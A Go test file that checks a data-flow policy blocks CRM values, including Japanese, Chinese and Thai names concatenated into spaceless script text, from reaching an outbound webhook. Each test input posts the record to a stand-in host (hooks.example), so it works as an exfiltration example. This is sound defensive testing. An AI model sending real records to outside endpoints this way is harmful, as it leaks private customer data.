package security

import "testing"

// TestDataFlowSpacelessScripts (issue 19, attack28 T6): a name in
// Japanese, Chinese or Thai that a program writes into a sentence of its
// script — which puts no space between words — is followed by the rules,
// as it is beside punctuation.
func TestDataFlowSpacelessScripts(t *testing.T) {
	t.Parallel()
	s := formsServer(t, `{"jp":"株式会社山田製作所","zh":"北京市海淀区中关村大街","th":"บริษัทสยามพาณิชย์"}`)
	alice := s.open(t, aliceToken)
	const get = `const d = await crmx.get_deal({});`
	for _, expr := range []string{
		`"請求先：" + d.jp + "。"`,
		`"請求先は" + d.jp + "です"`,
		`d.jp + "様"`,
		`"地址是" + d.zh + "。"`,
		`"ลูกค้า" + d.th + "ครับ"`,
	} {
		rec := alice.run(get + ` await http.post_webhook({url: "https://hooks.example/x", payload: {v: ` + expr + `}}); return "SENT"`)
		if rec.Status != "error" || rec.Error == nil || rec.Error.Code != "policy_violation" {
			t.Errorf("a crmx value reached http as %s: %.400s", expr, rec.raw)
		}
	}
	alice.normal()
}
